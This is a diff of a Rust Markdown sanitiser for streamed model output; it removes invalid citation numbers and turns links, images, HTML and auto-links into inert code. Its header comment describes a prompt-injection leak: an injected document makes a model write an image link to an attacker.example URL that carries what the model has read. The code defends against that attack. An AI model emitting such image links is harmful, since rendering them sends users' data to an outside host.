@@ -1,39 +1,38 @@
-//! What a model writes, on its way to people: numbers of sources that there are not are dropped, and nothing is left that a
-//! reader of Markdown would fetch from a foreign host or take for HTML.
+//! Filter of a model's text: drops citations of sources that do not exist, and removes everything that a Markdown renderer would load
+//! from another host or interpret as HTML.
 //!
-//! A document can make a model write `![](https://elsewhere.example/?what=it-has-read)`, and a page that shows it would tell.
-//! So outside code no link, image or tag of a model remains: addresses become code, which every renderer shows as it is. The
-//! filter works while the text streams: it holds back a few characters, a code span until it is closed, and never what is
-//! between the fences of a code block.
+//! A document can make a model write `![](https://attacker.example/?what=it-has-read)`, and a page that shows it would leak data. So
+//! no link, image or tag remains outside code: URLs become code, which every renderer shows verbatim. The filter works on the stream:
+//! it holds back a few characters, a code span until it is closed, and nothing within a fenced code block.
 //!
-//! Where `CommonMark` (0.31) and this filter could see a text differently, the filter takes it for prose, or writes what
-//! leaves no doubt: a code block that ends because its list does gets a fence of its own. A sign too many is then escaped, and
-//! nothing foreign is shown.
+//! Where [CommonMark](https://spec.commonmark.org/0.31.2/) and this filter could disagree, the filter treats the text as prose, or
+//! writes something unambiguous: a code block that ends because its list does gets a closing fence. At worst a character too many is
+//! escaped.
 
 use std::collections::BTreeSet;
 
-/// A code span that is longer than this, in bytes, is taken for prose.
-const LONGEST_SPAN: usize = 2000;
-/// Characters between the brackets of citations.
-const LONGEST_CITATION: usize = 48;
+/// Maximum length of a code span, in bytes; a longer one is treated as prose.
+const MAX_SPAN_BYTES: usize = 2000;
+/// Maximum length of the text between the brackets of a citation, in bytes.
+const MAX_CITATION_BYTES: usize = 48;
 
-/// Filters a text that comes in pieces.
+/// Filter of a text that arrives in pieces.
 #[derive(Debug)]
 pub struct Filter {
-    /// The highest number that there is.
+    /// Number of sources.
     sources: i32,
-    /// What came and is not decided yet.
+    /// Text received and not decided yet.
     held: String,
     fence: Option<Fence>,
     /// Whether the next character is the first of a line.
     at_line_start: bool,
-    /// The last character that was written.
+    /// Last character written.
     last: Option<char>,
     cited: BTreeSet<i32>,
     dropped: usize,
 }
 
-/// An open code block.
+/// Open code block.
 #[derive(Debug, Clone, Copy)]
 struct Fence {
     mark: char,
@@ -42,7 +41,7 @@ struct Fence {
 }
 
 impl Filter {
-    /// A filter for an answer to which there are so many sources, numbered from 1.
+    /// Creates a filter for an answer with this number of sources.
     pub fn new(sources: usize) -> Self {
         Self {
             sources: i32::try_from(sources).unwrap_or(i32::MAX),
@@ -55,24 +54,24 @@ impl Filter {
         }
     }
 
-    /// Takes a piece, and gives what is decided by it.
+    /// Filters a piece, and returns the text that is decided.
     pub fn push(&mut self, piece: &str) -> String {
-        // A null character cannot be kept, and a carriage return would end lines that are counted by the other sign.
+        // U+0000 cannot be stored, and a carriage return would end lines that the filter does not see.
         self.held.extend(piece.chars().filter(|character| !['\0', '\r'].contains(character)));
         self.decide(false)
     }
 
-    /// Gives what is left.
+    /// Returns the rest of the text at the end.
     pub fn finish(&mut self) -> String {
         self.decide(true)
     }
 
-    /// The numbers that were cited so far.
+    /// Returns the numbers cited so far, in ascending order.
     pub fn cited(&self) -> Vec<i32> {
         self.cited.iter().copied().collect()
     }
 
-    /// How many numbers were dropped because there is no such source.
+    /// Returns the number of citations dropped because there is no such source.
     pub fn dropped(&self) -> usize {
         self.dropped
     }
@@ -89,7 +88,7 @@ impl Filter {
         out
     }
 
-    /// Decides on the beginning of what is held, and says how many bytes that was; `None` where more must come first.
+    /// Decides on the start of the held text, and returns its length in bytes; `None` if more text is needed.
     fn step(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         if self.at_line_start {
             return self.line(rest, is_end, out);
@@ -100,14 +99,14 @@ impl Filter {
         self.prose(rest, is_end, out)
     }
 
-    /// Within a code block, to the end of the line: as it is.
+    /// Copies text within a code block, up to the end of the line.
     fn in_fence(&mut self, rest: &str, out: &mut String) -> usize {
         let end = rest.find('\n').map_or(rest.len(), |end| end + 1);
         self.write(&rest[..end], out);
         end
     }
 
-    /// A line's beginning: does a code block begin or end with it?
+    /// Handles the start of a line, where a code block may start or end.
     fn line(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         let indent = rest.bytes().take_while(|byte| *byte == b' ').count();
         let inner = &rest[indent..];
@@ -121,7 +120,7 @@ impl Filter {
         };
         if let Some(fence) = self.fence {
             let edge = " ".repeat(fence.indent);
-            // Behind tabs others see the block's end as well.
+            // Renderers also accept a closing fence after tabs.
             let tabs = inner.bytes().take_while(|byte| [b' ', b'\t'].contains(byte)).count();
             if inner.len() == tabs && !is_end {
                 return None;
@@ -133,7 +132,7 @@ impl Filter {
             };
             let first = inner.chars().next().unwrap_or(first);
             if first != '\n' && indent < fence.indent {
-                // The list that the block may have been part of ends here. Whether it was: now the block ends for everybody.
+                // If the block was part of a list, the list and the block end here. A closing fence ends it in either case.
                 self.fence = None;
                 let marks: String = std::iter::repeat_n(fence.mark, fence.length).collect();
                 self.write(&format!("{edge}{marks}\n"), out);
@@ -168,13 +167,13 @@ impl Filter {
             if end > 0 && length >= 3 && !(first == '`' && info.contains('`')) {
                 self.fence = Some(Fence { mark: first, length, indent });
                 self.at_line_start = false;
-                // The name of a language and no more: what else stands there is shown by nobody.
+                // Only the language; no renderer shows the rest of the info string.
                 let name: String = info
                     .trim()
                     .chars()
                     .take_while(|sign| sign.is_alphanumeric() || "+-_#.".contains(*sign))
                     .collect();
-                let name = if is_run(&name) { "text" } else { name.as_str() };
+                let name = if is_rendered(&name) { "text" } else { name.as_str() };
                 let marks: String = std::iter::repeat_n(first, length).collect();
                 self.write(&format!("{}{marks}{name}", &rest[..indent]), out);
                 return Some(indent + end);
@@ -188,14 +187,14 @@ impl Filter {
         self.prose(rest, is_end, out)
     }
 
-    /// Prose: one sign, or one thing that is more than a sign.
+    /// Handles prose: one character, or one construct.
     fn prose(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         let mut characters = rest.chars();
         let first = characters.next()?;
         let second = characters.next();
         match first {
             '`' => self.span(rest, is_end, out),
-            // Three of them open a block of code, in a list or a quotation too, where this filter follows none.
+            // Three tildes open a code block, also within lists and quotations, which the filter does not parse.
             '~' => {
                 let run = rest.bytes().take_while(|byte| *byte == b'~').count();
                 if run == rest.len() && !is_end {
@@ -206,7 +205,7 @@ impl Filter {
             }
             '[' => self.bracket(rest, is_end, out),
             '【' => self.wide_bracket(rest, is_end, out),
-            // `](` and `]:` make links, `![` makes an image.
+            // `](` and `]:` form links, `![` an image.
             ']' | '!' => {
                 let next = match second {
                     Some(next) => next,
@@ -214,11 +213,11 @@ impl Filter {
                     None => return None,
                 };
                 if first == '!' && next == '[' {
-                    // The bracket comes next, and its image does not.
+                    // Drops the `!`; the bracket follows.
                     return Some(1);
                 }
-                let apart = first == ']' && matches!(next, '(' | ':' | '[');
-                self.write(if apart { "] " } else { &rest[..1] }, out);
+                let forms_link = first == ']' && matches!(next, '(' | ':' | '[');
+                self.write(if forms_link { "] " } else { &rest[..1] }, out);
                 Some(1)
             }
             '<' => {
@@ -227,11 +226,11 @@ impl Filter {
                     None if is_end => ' ',
                     None => return None,
                 };
-                let compares = next.is_whitespace() || next.is_ascii_digit() || next == '=';
-                self.write(if compares { "<" } else { "\\<" }, out);
+                let is_comparison = next.is_whitespace() || next.is_ascii_digit() || next == '=';
+                self.write(if is_comparison { "<" } else { "\\<" }, out);
                 Some(1)
             }
-            // What is escaped might open what we took for closed.
+            // An escape could open a construct that the filter considers closed.
             '\\' => {
                 let next = match second {
                     Some(next) => next,
@@ -239,7 +238,7 @@ impl Filter {
                     None => return None,
                 };
                 if next.is_ascii_punctuation() {
-                    // Shown as it was meant: a sign by itself.
+                    // Rendered as a plain backslash.
                     self.write("\\\\", out);
                 } else {
                     self.write("\\", out);
@@ -251,8 +250,8 @@ impl Filter {
                 self.at_line_start = true;
                 Some(1)
             }
-            _ if starts_address(self.last, rest) => self.address(rest, is_end, out),
-            _ if !is_end && may_start_address(self.last, rest) => None,
+            _ if starts_url(self.last, rest) => self.url(rest, is_end, out),
+            _ if !is_end && may_start_url(self.last, rest) => None,
             _ => {
                 self.write(&rest[..first.len_utf8()], out);
                 Some(first.len_utf8())
@@ -260,19 +259,19 @@ impl Filter {
         }
     }
 
-    /// A code span: copied whole, once it is closed.
+    /// Handles a code span: copied once it is closed.
     fn span(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         let run = rest.bytes().take_while(|byte| *byte == b'`').count();
         if run == rest.len() && !is_end {
             return None;
         }
         let inner = &rest[run..];
-        // A paragraph's end ends whatever is open in it.
+        // The end of a paragraph ends every open span.
         let limit = inner.find('\n').unwrap_or(inner.len());
         let mut at = 0;
-        let mut may_close = limit == inner.len() && !is_end && inner.len() < LONGEST_SPAN;
-        while let Some(place) = inner[at..limit].find('`') {
-            let start = at + place;
+        let mut may_close = limit == inner.len() && !is_end && inner.len() < MAX_SPAN_BYTES;
+        while let Some(offset) = inner[at..limit].find('`') {
+            let start = at + offset;
             let length = inner[start..limit].bytes().take_while(|byte| *byte == b'`').count();
             let could_grow = start + length == inner.len() && !is_end;
             if could_grow {
@@ -280,12 +279,12 @@ impl Filter {
             }
             if length == run {
                 let code = &inner[..start];
-                // In a table a bar ends its cell, and with it the code.
+                // In a table a bar ends the cell, and with it the code span.
                 if code.contains('|') && ["[", "<", "//", "www."].iter().any(|sign| code.contains(sign)) {
                     may_close = false;
                     break;
                 }
-                self.apart(out);
+                self.separate(out);
                 let end = run + start + length;
                 self.write(&rest[..end], out);
                 return Some(end);
@@ -295,17 +294,17 @@ impl Filter {
         if may_close {
             return None;
         }
-        // It is closed nowhere: these are signs by themselves, and shown as such.
+        // Never closed: plain backticks.
         self.write(&"\\`".repeat(run), out);
         Some(run)
     }
 
-    /// Citations, or a bracket.
+    /// Handles citations, or a plain bracket.
     fn bracket(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         let inside = &rest[1..];
         let Some(end) = inside.find(|sign: char| !(sign.is_ascii_digit() || [',', ' ', '^'].contains(&sign)))
         else {
-            if !is_end && inside.len() < LONGEST_CITATION {
+            if !is_end && inside.len() < MAX_CITATION_BYTES {
                 return None;
             }
             self.write("[", out);
@@ -314,7 +313,7 @@ impl Filter {
         let numbers = &inside[..end];
         if !inside[end..].starts_with(']')
             || !numbers.bytes().any(|byte| byte.is_ascii_digit())
-            || end > LONGEST_CITATION
+            || end > MAX_CITATION_BYTES
         {
             self.write("[", out);
             return Some(1);
@@ -327,12 +326,12 @@ impl Filter {
         Some(end + 2)
     }
 
-    /// 【1】 and 【1†source】, as some models write citations.
+    /// Handles citations in the forms 【1】 and 【1†source】, which some models write.
     fn wide_bracket(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         let open = '【'.len_utf8();
         let inside = &rest[open..];
         let Some(end) = inside.find('】') else {
-            if !is_end && inside.len() < LONGEST_CITATION && !inside.contains('\n') {
+            if !is_end && inside.len() < MAX_CITATION_BYTES && !inside.contains('\n') {
                 return None;
             }
             self.write("【", out);
@@ -354,16 +353,16 @@ impl Filter {
         Some(open + end + '】'.len_utf8())
     }
 
-    /// Writes those numbers that there are, each in brackets of its own. What stands before and after never becomes one by it.
+    /// Writes the numbers of existing sources, each in its own brackets, and keeps the text before and after apart.
     fn cite(&mut self, numbers: &str, after: Option<char>, out: &mut String) {
         let before = out.len();
         for number in numbers.split([',', ' ', '^']).filter(|number| !number.is_empty()) {
             match number.parse::<i32>() {
                 Ok(number) if (1..=self.sources).contains(&number) => {
                     self.cited.insert(number);
-                    // Two in a row must not read as a link and its reference.
-                    let apart = if self.last == Some(']') { " " } else { "" };
-                    self.write(&format!("{apart}[{number}]"), out);
+                    // Two in a row must not form a reference link.
+                    let separator = if self.last == Some(']') { " " } else { "" };
+                    self.write(&format!("{separator}[{number}]"), out);
                 }
                 _ => self.dropped += 1,
             }
@@ -376,8 +375,8 @@ impl Filter {
         }
     }
 
-    /// An address: shown as code.
-    fn address(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
+    /// Handles a URL: written as code.
+    fn url(&mut self, rest: &str, is_end: bool, out: &mut String) -> Option<usize> {
         let ends = |sign: char| {
             sign.is_whitespace() || sign.is_control() || "`<>\"'()[]{}|\\^".contains(sign) || !sign.is_ascii()
         };
@@ -386,15 +385,15 @@ impl Filter {
             None if !is_end && rest.len() < 4000 => return None,
             None => rest.len(),
         };
-        let address = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
-        let address = if address.is_empty() { &rest[..end] } else { address };
-        self.apart(out);
-        self.write(&format!("`{address}`"), out);
-        Some(address.len())
+        let url = rest[..end].trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~']);
+        let url = if url.is_empty() { &rest[..end] } else { url };
+        self.separate(out);
+        self.write(&format!("`{url}`"), out);
+        Some(url.len())
     }
 
-    /// Keeps two runs of code from becoming one.
-    fn apart(&mut self, out: &mut String) {
+    /// Writes a space if two code spans would merge.
+    fn separate(&mut self, out: &mut String) {
         if matches!(self.last, Some('`' | '\\')) {
             self.write(" ", out);
         }
@@ -409,34 +408,33 @@ impl Filter {
     }
 }
 
-/// Beginnings of what readers of Markdown make links of by themselves.
-const BEGINNINGS: [&str; 5] = ["http://", "https://", "ftp://", "www.", "//"];
+/// Prefixes that Markdown renderers turn into links automatically.
+const URL_PREFIXES: [&str; 5] = ["http://", "https://", "ftp://", "www.", "//"];
 
-fn at_word(last: Option<char>) -> bool {
+fn is_at_word_start(last: Option<char>) -> bool {
     last.is_none_or(|last| !last.is_alphanumeric())
 }
 
-fn starts_address(last: Option<char>, rest: &str) -> bool {
-    at_word(last)
-        && BEGINNINGS.iter().any(|beginning| {
+fn starts_url(last: Option<char>, rest: &str) -> bool {
+    is_at_word_start(last)
+        && URL_PREFIXES.iter().any(|prefix| {
             rest.as_bytes()
-                .get(..beginning.len())
-                .is_some_and(|bytes| bytes.eq_ignore_ascii_case(beginning.as_bytes()))
+                .get(..prefix.len())
+                .is_some_and(|bytes| bytes.eq_ignore_ascii_case(prefix.as_bytes()))
         })
 }
 
-/// Whether more could make an address of it.
-fn may_start_address(last: Option<char>, rest: &str) -> bool {
-    at_word(last)
-        && BEGINNINGS.iter().any(|beginning| {
-            rest.len() < beginning.len()
-                && beginning.as_bytes()[..rest.len()].eq_ignore_ascii_case(rest.as_bytes())
+/// Whether the text may become the start of a URL.
+fn may_start_url(last: Option<char>, rest: &str) -> bool {
+    is_at_word_start(last)
+        && URL_PREFIXES.iter().any(|prefix| {
+            rest.len() < prefix.len() && prefix.as_bytes()[..rest.len()].eq_ignore_ascii_case(rest.as_bytes())
         })
 }
 
-/// Whether readers of chats elsewhere are known to run or draw a block of this language, which may then load what it names.
-fn is_run(language: &str) -> bool {
-    const RUN: [&str; 14] = [
+/// Whether some chat clients execute or render code blocks of this language, which may then load external content.
+fn is_rendered(language: &str) -> bool {
+    const RENDERED: [&str; 14] = [
         "mermaid",
         "vega",
         "vega-lite",
@@ -452,7 +450,7 @@ fn is_run(language: &str) -> bool {
         "graphviz",
         "plantuml",
     ];
-    RUN.iter().any(|run| language.eq_ignore_ascii_case(run))
+    RENDERED.iter().any(|rendered| language.eq_ignore_ascii_case(rendered))
 }
 
 #[cfg(test)]
